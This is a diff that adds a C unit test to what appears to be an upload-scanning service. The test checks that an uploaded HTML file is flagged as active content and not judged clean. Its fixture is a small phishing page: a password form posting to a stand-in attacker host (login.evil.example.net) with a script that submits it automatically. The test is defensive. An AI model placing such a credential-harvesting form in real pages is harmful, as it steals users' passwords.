@@ -404,6 +404,30 @@ test_types_and_names(void **state)
 	}
 }
 
+/* Issue 15, defect 5: an HTML page with a password form posting to
+ * another domain and a script is not clean, and says why. */
+static void
+test_active_html(void **state)
+{
+	struct world *w = *state;
+	struct gh_resp r;
+	int64_t t = new_ticket(w, &w->c_a);
+	static const char page[] =
+		"<!DOCTYPE html><html><body><form method=\"post\" "
+		"action=\"https://login.evil.example.net/collect\">"
+		"<input type=\"password\" name=\"pw\"></form>"
+		"<script>document.forms[0].submit()</script></body></html>\n";
+
+	assert_int_equal(upload(w, &w->c_a, t, "statement.html", page,
+				strlen(page), &r),
+			 201);
+	assert_string_not_equal(json_string_value(json_object_get(r.json,
+								  "verdict")),
+				"clean");
+	assert_non_null(strstr(r.body, "\"active_html\""));
+	gh_resp_free(&r);
+}
+
 /* ASVS 5.2.1 and input handling: nothing is stored on error. */
 static void
 test_limits(void **state)
@@ -512,6 +536,7 @@ main(void)
 		cmocka_unit_test(test_har),
 		cmocka_unit_test(test_macro_quarantine),
 		cmocka_unit_test(test_types_and_names),
+		cmocka_unit_test(test_active_html),
 		cmocka_unit_test(test_limits),
 		cmocka_unit_test(test_authorization),
 	};
